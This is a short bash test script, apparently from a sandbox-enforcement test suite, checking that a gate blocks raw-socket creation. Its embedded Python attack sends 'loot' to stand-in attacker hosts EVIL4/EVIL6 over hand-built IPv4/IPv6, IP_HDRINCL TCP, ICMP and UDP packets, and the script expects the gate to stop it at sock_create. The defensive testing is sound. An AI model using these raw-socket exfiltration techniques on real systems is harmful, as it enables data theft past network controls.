#!/bin/bash
# SPDX-License-Identifier: BSD-2-Clause
# attack: makes raw sockets, with the IP header by hand (IP_HDRINCL, IPPROTO_RAW) and without, and sends TCP, UDP and ICMP
# stopped-by: sock_create
# reason: socket_type
# kernels: all
. "$(dirname "$0")/lib.sh"
arena tcp/443

attack_by <<'PYTHON'
from attacker import *

def raw(family, protocol):
    return socket.socket(family, socket.SOCK_RAW, protocol)

with attempt("IPPROTO_RAW, IPv4"):
    raw(socket.AF_INET, socket.IPPROTO_RAW).sendto(ip4(EVIL4, 17, udp_body(EVIL4, 9000, loot("raw4"))), (EVIL4, 0))
with attempt("IPPROTO_RAW, IPv6"):
    raw(socket.AF_INET6, socket.IPPROTO_RAW).sendto(ip6(EVIL6, 17, udp_body(EVIL6, 9000, loot("raw6"))), (EVIL6, 0))
with attempt("IP_HDRINCL"):
    sock = raw(socket.AF_INET, socket.IPPROTO_TCP)
    sock.setsockopt(socket.SOL_IP, socket.IP_HDRINCL, 1)
    sock.sendto(ip4(EVIL4, 6, tcp_body(EVIL4, 443, loot("hdrincl"))), (EVIL4, 0))
with attempt("ICMP"):
    raw(socket.AF_INET, socket.IPPROTO_ICMP).sendto(struct.pack("!BBHHH", 8, 0, 0, 1, 1) + loot("icmp4"), (EVIL4, 0))
with attempt("ICMPv6"):
    raw(socket.AF_INET6, socket.IPPROTO_ICMPV6).sendto(struct.pack("!BBHHH", 128, 0, 0, 1, 1) + loot("icmp6"), (EVIL6, 0))
with attempt("UDP"):
    raw(socket.AF_INET, socket.IPPROTO_UDP).sendto(udp_body(EVIL4, 9000, loot("udp")), (EVIL4, 0))
PYTHON
works stolen:raw4 stolen:raw6 stolen:hdrincl stolen:icmp4 stolen:icmp6 stolen:udp
gate
stopped
recorded sock_create socket_type
